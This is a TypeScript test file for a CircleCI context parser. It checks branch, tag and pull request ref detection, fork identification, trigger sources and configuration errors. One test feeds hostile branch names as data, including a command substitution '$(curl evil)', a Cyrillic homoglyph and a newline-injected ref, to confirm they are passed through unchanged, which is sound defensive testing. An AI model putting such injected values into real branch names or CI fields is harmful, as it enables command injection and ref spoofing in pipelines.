import { fromCircleCI } from '../../shared/context/circleci.js';
import { isFork, UNKNOWN_HEAD_REPOSITORY } from '../../shared/context/refs.js';
import { NOW, configError } from './fixtures.js';

type Vars = Record<string, string | undefined>;

/** Built-in variables of a CircleCI job (project values and variables reference), plus the orb's trigger source. */
function circleEnv(over: Vars = {}): Vars {
  return {
    CI: 'true',
    CIRCLECI: 'true',
    CIRCLE_BRANCH: 'main',
    CIRCLE_SHA1: '3484a3fb816e0859fd6e1cea078d76385ff50625',
    CIRCLE_PROJECT_USERNAME: 'acme',
    CIRCLE_PROJECT_REPONAME: 'api',
    CIRCLE_REPOSITORY_URL: 'git@github.com:acme/api.git',
    CIRCLE_USERNAME: 'alice',
    CIRCLE_BUILD_NUM: '1234',
    CIRCLE_BUILD_URL: 'https://circleci.com/gh/acme/api/1234',
    CIRCLE_JOB: 'deploy',
    CIRCLE_WORKFLOW_ID: '6fcf1f0e-3a5b-4c6f-9b4e-2f6a6d0b7c11',
    CIRCLE_PIPELINE_ID: '0d8d0d3a-0000-4000-8000-000000000001',
    CIRCLE_PIPELINE_TRIGGER_SOURCE: 'webhook',
    ...over,
  };
}


describe('fromCircleCI from documented variables', () => {
  it('a branch build', () => {
    expect(fromCircleCI(circleEnv(), NOW)).toEqual({
      platform: 'circleci',
      event: 'webhook',
      ref: 'refs/heads/main',
      refType: 'branch',
      sha: '3484a3fb816e0859fd6e1cea078d76385ff50625',
      repository: 'acme/api',
      actor: 'alice',
      triggeringActor: 'alice',
      runner: { kind: 'unknown' },
      runId: '6fcf1f0e-3a5b-4c6f-9b4e-2f6a6d0b7c11',
      jobId: '1234',
      workflow: 'deploy',
      identitySource: 'env',
      time: '2026-03-04T05:06:07.000Z',
    });
  });

  it.each<[string, Vars, string, string]>([
    ['tag build', { CIRCLE_BRANCH: undefined, CIRCLE_TAG: 'v2.0.0' }, 'refs/tags/v2.0.0', 'tag'],
    ['a tag named main stays a tag', { CIRCLE_BRANCH: undefined, CIRCLE_TAG: 'main' }, 'refs/tags/main', 'tag'],
    ['tag wins over a branch variable', { CIRCLE_TAG: 'v2.0.0' }, 'refs/tags/v2.0.0', 'tag'],
    ['fork PR on pull/<n>', { CIRCLE_BRANCH: 'pull/42', CIRCLE_PR_NUMBER: '42', CIRCLE_PR_USERNAME: 'mallory', CIRCLE_PR_REPONAME: 'api' }, 'refs/pull/42/head', 'pull'],
    ['fork PR on a branch named main is not refs/heads/main', { CIRCLE_BRANCH: 'main', CIRCLE_PR_NUMBER: '42', CIRCLE_PR_USERNAME: 'mallory', CIRCLE_PR_REPONAME: 'api' }, 'refs/pull/42/head', 'pull'],
    ['a branch literally named pull/7 without fork variables is a branch', { CIRCLE_BRANCH: 'pull/7' }, 'refs/heads/pull/7', 'branch'],
    ['same-repository PR builds the branch', { CIRCLE_BRANCH: 'feature', CIRCLE_PULL_REQUEST: 'https://github.com/acme/api/pull/9' }, 'refs/heads/feature', 'branch'],
  ])('%s → %s', (_name, over, ref, refType) => {
    const ctx = fromCircleCI(circleEnv(over), NOW);
    expect([ctx.ref, ctx.refType]).toEqual([ref, refType]);
  });

  it('fork pull request: head from CIRCLE_PR_USERNAME/REPONAME, PR author, fork', () => {
    const ctx = fromCircleCI(circleEnv({ CIRCLE_BRANCH: 'pull/42', CIRCLE_PR_NUMBER: '42', CIRCLE_PR_USERNAME: 'mallory', CIRCLE_PR_REPONAME: 'api-fork', CIRCLE_PULL_REQUEST: 'https://github.com/acme/api/pull/42' }), NOW);
    expect(ctx).toMatchObject({ pullRequestNumber: 42, headRepository: 'mallory/api-fork', baseRepository: 'acme/api', prAuthor: 'mallory' });
    expect(isFork(ctx)).toBe(true);
  });

  it.each<[string, Vars]>([
    ['only CIRCLE_PR_NUMBER', { CIRCLE_BRANCH: 'pull/42', CIRCLE_PR_NUMBER: '42' }],
    ['PR repository named like the base', { CIRCLE_BRANCH: 'pull/42', CIRCLE_PR_NUMBER: '42', CIRCLE_PR_USERNAME: 'acme', CIRCLE_PR_REPONAME: 'api' }],
    ['only CIRCLE_PR_REPONAME, number from the URL', { CIRCLE_BRANCH: 'feature', CIRCLE_PR_REPONAME: 'api', CIRCLE_PULL_REQUEST: 'https://github.com/acme/api/pull/42' }],
  ])('any CIRCLE_PR_* variable means fork (%s)', (_name, over) => {
    const ctx = fromCircleCI(circleEnv(over), NOW);
    expect(ctx.headRepository).toBe(UNKNOWN_HEAD_REPOSITORY);
    expect(ctx.ref).toBe('refs/pull/42/head');
    expect(isFork(ctx)).toBe(true);
  });

  it('same-repository PR: number from CIRCLE_PULL_REQUEST, head = base', () => {
    const ctx = fromCircleCI(circleEnv({ CIRCLE_BRANCH: 'feature', CIRCLE_PULL_REQUEST: 'https://github.com/acme/api/pull/9' }), NOW);
    expect([ctx.pullRequestNumber, ctx.headRepository, ctx.baseRepository]).toEqual([9, 'acme/api', 'acme/api']);
    expect(isFork(ctx)).toBe(false);
  });

  it.each([
    ['webhook', 'webhook'],
    ['api', 'api'],
    ['scheduled_pipeline', 'scheduled_pipeline'],
    [undefined, 'unknown'],
    ['', 'unknown'],
  ])('trigger source %s → event %s', (value, event) => {
    expect(fromCircleCI(circleEnv({ CIRCLE_PIPELINE_TRIGGER_SOURCE: value }), NOW).event).toBe(event);
  });
});

describe('fromCircleCI bad input', () => {
  it.each(['CIRCLE_SHA1', 'CIRCLE_PROJECT_USERNAME', 'CIRCLE_PROJECT_REPONAME'])('missing %s → ConfigError naming it', (name) => {
    expect(configError(() => fromCircleCI(circleEnv({ [name]: undefined }), NOW)).message).toContain(name);
  });

  it('neither branch nor tag → ConfigError naming both', () => {
    const err = configError(() => fromCircleCI(circleEnv({ CIRCLE_BRANCH: undefined }), NOW));
    expect(err.message).toContain('CIRCLE_BRANCH');
    expect(err.message).toContain('CIRCLE_TAG');
  });

  it('fork variables without any PR number → ConfigError', () => {
    configError(() => fromCircleCI(circleEnv({ CIRCLE_BRANCH: 'feature', CIRCLE_PR_USERNAME: 'mallory' }), NOW));
  });

  it.each([
    ['command substitution', '$(curl evil)'],
    ['Cyrillic homoglyph', 'm\u0430in'],
    ['newline', 'main\nrefs/heads/prod'],
  ])('branch and tag names with %s are carried byte for byte', (_name, name) => {
    expect(fromCircleCI(circleEnv({ CIRCLE_BRANCH: name }), NOW).ref).toBe(`refs/heads/${name}`);
    expect(fromCircleCI(circleEnv({ CIRCLE_BRANCH: undefined, CIRCLE_TAG: name }), NOW).ref).toBe(`refs/tags/${name}`);
  });
});
